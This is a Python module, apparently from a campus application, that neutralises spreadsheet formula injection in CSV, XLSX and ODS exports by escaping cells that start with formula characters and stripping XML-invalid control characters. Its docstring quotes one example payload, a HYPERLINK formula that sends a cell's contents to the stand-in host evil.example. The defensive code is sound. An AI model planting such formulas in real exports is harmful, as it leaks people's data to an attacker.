"""Cells that spreadsheets open as data, never as formulas: one function for every CSV, XLSX
and ODS the campus writes (team exports, "Mes données").

A text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel or
LibreOffice as a formula (CSV, and XLSX cells openpyxl would type as formulas): a name such as
`=HYPERLINK("http://evil.example/?"&A1,"Voir")`, arriving through the organisation import or a
ProConnect identity, would run in the manager's spreadsheet. Such texts get a leading
apostrophe (OWASP's "CSV injection" advice), and the control characters XML cannot hold
(XLSX and ODS are XML) are removed. Numbers, dates and booleans are left as they are.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 forbids (all C0 controls but tab, line feed, carriage return; lone
# surrogates; U+FFFE and U+FFFF).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def safe_text(text: str) -> str:
    """`text` as a spreadsheet shows it without evaluating it."""
    text = _NOT_XML.sub("", text)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_cell(value):
    """A cell's value, texts made safe (`safe_text`), anything else unchanged."""
    return safe_text(value) if isinstance(value, str) else value
